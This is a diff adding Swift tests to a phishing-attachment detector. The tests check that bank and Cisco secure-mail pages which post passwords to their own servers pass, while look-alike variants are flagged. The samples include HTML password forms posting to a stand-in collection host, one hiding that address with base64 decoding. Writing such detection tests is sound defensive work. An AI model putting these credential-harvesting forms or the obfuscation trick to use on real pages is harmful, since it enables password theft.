@@ -145,6 +145,35 @@ struct PaymentDiversionAndAttachedPageTests {
         #expect(AttachedPage(Array(posting.utf8)).asksForPassword)
     }
 
+    func withAttachment(from: String, _ name: String, _ page: String) -> [UInt8] {
+        let text = String(decoding: withAttachment(name, type: "text/html", page), as: UTF8.self)
+            .replacingOccurrences(of: "From: 전자계약 서비스 <sign@esign-contract.example>", with: "From: \(from)")
+        return Array(text.utf8)
+    }
+
+    /// A card company's secure mail that asks its own server to decrypt, and an encrypted message
+    /// from Cisco's Secure Email Encryption (`securedoc.html`, posting to res.cisco.com), send the
+    /// password home: no login lure. The same page from a look-alike domain, posting elsewhere, to
+    /// a protocol-relative foreign address, or decoding itself is one.
+    @Test func aSecureMailThatSendsThePasswordHomeIsNoLoginPage() {
+        let home = #"<html><img src="https://img.hyundaicard.com/logo.png"><form action="https://sec.hyundaicard.com/securemail/open" method="post"><input type="password" name="birth"></form></html>"#
+        let card = "현대카드 <statement@hyundaicard.com>"
+        #expect(!rules(withAttachment(from: card, "명세서.html", home)).markers.contains("attach-login-form"))
+        let cisco = #"<html><form action="https://res.cisco.com/websafe/decrypt" method="post"><input type="password" name="key1"></form><script src="https://res.cisco.com/websafe/js/open.js"></script></html>"#
+        #expect(!rules(withAttachment(from: "Claims <claims@insurer.example>", "securedoc.html", cisco)).markers.contains("attach-login-form"))
+
+        #expect(rules(withAttachment(from: "현대카드 <statement@hyundaicard-secure.example>", "명세서.html", home)).markers.contains("attach-login-form"))
+        let elsewhere = home.replacingOccurrences(of: "https://sec.hyundaicard.com/securemail/open", with: "https://collect.example/p")
+        #expect(rules(withAttachment(from: card, "명세서.html", elsewhere)).markers.contains("attach-login-form"))
+        let relative = home.replacingOccurrences(of: "https://sec.hyundaicard.com/securemail/open", with: "//collect.example/p")
+        #expect(rules(withAttachment(from: card, "명세서.html", relative)).markers.contains("attach-login-form"))
+        let decoding = home + #"<script>document.forms[0].action = atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvcA==")</script>"#
+        #expect(rules(withAttachment(from: card, "명세서.html", decoding)).markers.contains("attach-login-form"))
+        // A free mailbox is nobody's home, even one of a brand's provider.
+        let mailbox = home.replacingOccurrences(of: "sec.hyundaicard.com", with: "mail.naver.com")
+        #expect(rules(withAttachment(from: "현대카드 <hyundaicard.notice@naver.com>", "명세서.html", mailbox)).markers.contains("attach-login-form"))
+    }
+
     /// Kakao's subsidiaries mail from their own domains (ko-fresh3: a Kakao T receipt from
     /// kakaomobility.com was Phishing as a look-alike of kakao).
     @Test func kakaoGroupDomainsAreKakaos() {
